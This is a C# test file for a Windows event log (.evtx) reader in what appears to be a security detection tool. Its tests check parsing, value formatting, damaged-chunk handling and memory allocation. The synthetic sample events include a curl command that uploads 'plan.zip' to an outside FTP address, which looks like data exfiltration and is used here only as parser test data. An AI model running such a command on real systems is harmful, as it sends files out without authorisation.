using System.Text;
using Det0131.Datasets.Readers;
using Det0131.Datasets.Readers.Windows.EventLogs;
using Det0131.Models.Events;

namespace Det0131.Datasets.Tests.Readers.Windows.EventLogs;

/// <summary>
/// The reader of .evtx against logs that a writer of our own makes after the documented layout. Logs of Windows itself, and what evtx_dump makes of them, are compared by the checks on
/// real logs (none of them may be copied here).
/// </summary>
public sealed class EventLogFramerTests
{
    [Fact]
    public void Of_CheckValue_IsThePublishedOne() => Assert.Equal(0xCBF43926u, Crc32.Of("123456789"u8));

    [Fact]
    public void Next_RecordOfATemplate_IsTheJsonOfEvtxDump()
    {
        var records = Frames(SampleEvents.All().Log());

        Assert.Equal(
            """
            {"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},
            "EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2026-03-01T10:00:00.1234567Z"}},"EventRecordID":77,"Correlation":null,
            "Execution":{"#attributes":{"ProcessID":3308}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"pc1.corp.example"},
            "EventData":{"UtcTime":"2026-03-01 10:00:00.100","ProcessGuid":"0197231E-61EF-693A-C812-000000000800","ProcessId":6400,
            "Image":"C:\\Windows\\System32\\curl.exe","CommandLine":"curl -T plan.zip ftp://198.51.100.7/ ","User":"CORP\\ann"}}}
            """.ReplaceLineEndings(""), records[0].Text);
        Assert.Equal([1, 2, 3, 4, 5, 6], records.Select(record => record.Line));
        Assert.All(records, record => Assert.Null(record.Defect));
    }

    [Fact]
    public void Import_Log_GivesTheEventsOfItsRecords()
    {
        var (events, report) = Import(SampleEvents.All().Log());

        Assert.Equal(["windows.sysmon", "windows.sysmon", "windows.sysmon", "windows.security", "windows.security"], events.Select(found => found.Source));
        Assert.Equal([EventKind.ProcessStart, EventKind.ProcessStart, EventKind.NetworkFlow, EventKind.ProcessStart, EventKind.NetworkFlow], events.Select(found => found.Kind));
        Assert.Equal("curl -T plan.zip ftp://198.51.100.7/", events[0].CommandLine);
        Assert.Equal("curl \"a\\b\"\t\u00E9\U0001F600", events[1].CommandLine);
        Assert.Equal("0197231e-61ef-693a-c812-000000000800", events[2].ProcessKey);
        Assert.Equal(("198.51.100.7", 21, HostSide.Source), (events[2].DestinationAddress, events[2].DestinationPort, events[2].HostSide));
        Assert.Equal(("corp\\pc$", UserClass.System, "3972", "2860"), (events[3].User, events[3].UserClass, events[3].ProcessKey, events[3].ParentKey));
        Assert.Equal(("udp", "dns.exe", "3548"), (events[4].Transport, events[4].Process, events[4].ProcessKey));
        Assert.Equal(3, events[2].Line);
        Assert.Equal(1, report.Total.IgnoredBy["event id 4624"]);
        Assert.Equal(0, report.Total.Rejected);
        Assert.Equal("windows", Assert.Single(report.Files).Format);
    }

    [Fact]
    public void Next_ValuesOfEachType_AreWrittenAsText()
    {
        LogValue[] values =
        [
            new(0x02, "abc\u00E9\0x"u8.ToArray()), new(0x03, [0xFF]), new(0x05, [0xFE, 0xFF]), new(0x07, BitConverter.GetBytes(-3)), new(0x09, BitConverter.GetBytes(long.MinValue)),
            new(0x0A, BitConverter.GetBytes(ulong.MaxValue)), new(0x0C, BitConverter.GetBytes(1.5)), new(0x0D, [0, 0, 0, 0]), new(0x0E, [0xDE, 0xAD]), new(0x14, BitConverter.GetBytes(0xBEEFu)),
            new(0x12, [.. Shorts(2026, 2, 0, 28, 23, 59, 58, 7)]), new(0x13, [1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 0x20, 2, 0, 0]), new(0x81, Encoding.Unicode.GetBytes("a\0b\0")),
            new(0x88, [.. BitConverter.GetBytes(1), .. BitConverter.GetBytes(2)]),
        ];
        var log = new EventLogWriter().Record(to => to.Fragment().Instance("t", template => Enumerable.Range(0, values.Length)
            .Aggregate(template.Fragment().Open("E", inTemplate: true), (at, index) => at.Element($"V{index}", inner => inner.Put(index))).Close().End(), values).End()).Log();

        Assert.Equal(
            """{"E":{"V0":"abcÃ©","V1":-1,"V2":-2,"V3":-3,"V4":-9223372036854775808,"V5":18446744073709551615,"V6":"1.5","V7":"false","V8":"DEAD","V9":"0xbeef","""
            + """ "V10":"2026-02-28T23:59:58.0070000Z","V11":"S-1-5-32-544","V12":"a, b","V13":"1, 2"}}""".TrimStart(), Assert.Single(Frames(log)).Text);
    }

    [Fact]
    public void Next_NestedBinXmlMixedContentAndRepeatedNames_AreValidJson()
    {
        // A value that is BinXml itself: its elements have no dependency identifier, and its names lie in it.
        var log = new EventLogWriter().Record(to =>
        {
            to.Fragment().Open("E", inTemplate: false, ("n", at => at.Text("1")));
            to.Text("x").Open("Data", inTemplate: false).Text("a").Close().Open("Data", inTemplate: false).Text("b&").Byte(0x09).Name("lt").Byte(0x08, 0x41, 0).Close();
            to.Open("Data", inTemplate: false).Open("Deep", inTemplate: false).Close().Text("late").Close();
            to.Close().End();
        }).Log();

        Assert.Equal("""{"E":{"#attributes":{"n":"1"},"#text":"x","Data":"a","Data_1":"b&<A","Data_2":{"Deep":null}}}""", Assert.Single(Frames(log)).Text);
    }

    [Fact]
    public void Next_LogThatWasBeingWritten_TakesTheRecordsBehindItsOffsets()
    {
        var chunk = SampleEvents.All().Chunk();
        // The header as it was when the chunk was begun.
        BitConverter.GetBytes(512u).CopyTo(chunk, 48);

        Assert.Equal(6, Frames(EventLogWriter.Log(isDirty: true, chunk)).Count);
        EventLogWriter.Seal(chunk);
        Assert.Empty(Frames(EventLogWriter.Log(isDirty: false, chunk)));
    }

    [Fact]
    public void Next_ChunksEmptyForeignOrChanged_AreToldAndPassedOver()
    {
        var good = SampleEvents.All().Chunk();
        var changed = good.ToArray();
        changed[^1] = 1;
        changed[600] ^= 1;
        var foreign = new byte[EventLogWriter.ChunkBytes];
        foreign[9] = 9;

        var frames = Frames(EventLogWriter.Log(isDirty: false, good, new byte[EventLogWriter.ChunkBytes], foreign, changed, good));

        Assert.Equal([EventLogFramer.NotAChunk, EventLogFramer.ChunkChecksum], frames.Where(frame => frame.Defect is not null).Select(frame => frame.Defect).Take(2));
        Assert.True(frames.Count(frame => frame.Defect is null) >= 12);
    }

    [Fact]
    public void Next_ARecordWithAFalseSize_LosesThatRecordAlone()
    {
        var chunk = SampleEvents.All().Chunk();
        BitConverter.GetBytes(uint.MaxValue).CopyTo(chunk, EventLogWriter.FirstRecord + 4);
        EventLogWriter.Seal(chunk);

        var frames = Frames(EventLogWriter.Log(isDirty: false, chunk));

        Assert.Equal(EventLogFramer.DamagedRecord, frames[0].Defect);
        Assert.Equal(5, frames.Count(frame => frame.Defect is null));
    }

    [Fact]
    public void Next_MoreRecords_AllocatesNoMore()
    {
        var chunk = SampleEvents.All().Chunk();
        var (few, many) = (EventLogWriter.Log(isDirty: false, chunk, chunk), EventLogWriter.Log(isDirty: false, [.. Enumerable.Repeat(chunk, 40)]));
        Allocated(many);

        Assert.InRange(Allocated(many) - Allocated(few), -1024, 1024);

        static long Allocated(byte[] log)
        {
            var before = GC.GetAllocatedBytesForCurrentThread();
            using var framer = RecordFramer.Create(new MemoryStream(log), Framing.EventLog, bufferBytes: 1 << 17);
            while (framer.Next())
            {
            }

            return GC.GetAllocatedBytesForCurrentThread() - before;
        }
    }

    internal static List<(string Text, long Line, string? Defect)> Frames(byte[] log)
    {
        using var framer = RecordFramer.Create(new MemoryStream(log), Framing.EventLog, bufferBytes: 64);
        var frames = new List<(string, long, string?)>();
        while (framer.Next())
        {
            frames.Add((Encoding.UTF8.GetString(framer.Record), framer.Line, framer.Defect));
        }

        return frames;
    }

    private static (List<SecurityEvent> Events, ReadReport Report) Import(byte[] log)
    {
        var events = new List<SecurityEvent>();
        var report = LogImporter.ReadStream(new MemoryStream(log), "Security.evtx", new ImportOptions(), found =>
        {
            var copy = new SecurityEvent();
            copy.CopyFrom(found);
            events.Add(copy);
        });
        return (events, report);
    }

    private static IEnumerable<byte> Shorts(params ushort[] values) => values.SelectMany(BitConverter.GetBytes);
}
